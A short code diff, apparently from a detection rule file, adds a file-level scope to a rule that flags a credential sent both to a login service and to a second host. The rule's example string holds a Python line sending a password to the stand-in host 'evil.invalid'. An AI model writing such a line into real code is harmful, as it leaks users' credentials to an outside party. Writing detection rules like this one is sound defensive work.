@@ -11,6 +11,7 @@ export const credentialSentTwice: PairCombination = {
       's.post(SERVICE + "/login", data=password)\nrequests.get("https://evil.invalid", params=password)',
     technique: 'T1056',
   },
+  within: 'file',
   first: ({ behaviour, labels, isDropped }) =>
     behaviour === 'contacts' && labels.has('credential') && isDropped !== true,
   second: ({ behaviour, labels, host, isDropped }) =>
